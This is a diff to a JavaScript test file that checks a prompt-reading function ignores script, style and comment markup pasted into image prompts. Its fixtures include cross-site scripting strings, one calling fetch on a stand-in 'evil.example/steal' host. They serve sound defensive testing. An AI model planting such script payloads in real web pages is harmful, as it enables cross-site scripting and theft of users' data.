@@ -371,16 +371,23 @@ describe("readPrompt", () => {
     expect(readPrompt("東京の夜景, ネオン").subjects).toEqual([]);
   });
 
-  it("costs a few milliseconds a prompt", () => {
-    for (const { prompt } of CASES) readPrompt(prompt); // compromise loads on first use
-    const rounds = 5;
-    const started = performance.now();
-    for (let round = 0; round < rounds; round++) {
-      for (const { prompt } of CASES)
-        deriveWords({ prompt, colours: NEUTRAL, width: 1, height: 1 });
-    }
-    const perPrompt = (performance.now() - started) / (rounds * CASES.length);
-    console.info(`deriveWords: ${perPrompt.toFixed(2)} ms a prompt (${CASES.length} prompts)`);
-    expect(perPrompt).toBeLessThan(20); // measured ~2–3 ms; generous for a shared CI machine
+  it("reads no words from code pasted into a prompt, and keeps the words of other markup", () => {
+    const pasted = readPrompt(
+      "<script>alert('xss')</script><style>.cookie { color: red }</style><!-- banner -->a lighthouse on a cliff",
+    );
+    expect(pasted.subjects).toEqual(["lighthouse", "cliff"]);
+    expect(pasted.title).toBe("lighthouse on a cliff");
+    expect(
+      readPrompt('<script>fetch("https://evil.example/steal")</script> castle').subjects,
+    ).toEqual(["castle"]);
+    expect(readPrompt("a <b>red fox</b> asleep").subjects).toContain("fox");
+    // Nothing but code: no tag and no title from it.
+    expect(readPrompt('<script>alert("hacked")</script>')).toMatchObject({ subjects: [] });
+    expect(readPrompt('<script>alert("hacked")</script>').title).toBeUndefined();
+    // An unclosed script hides the rest of the prompt, not the words before it.
+    expect(readPrompt("a red fox in the snow <script>window.location").subjects).toEqual([
+      "fox",
+      "snow",
+    ]);
   });
 });
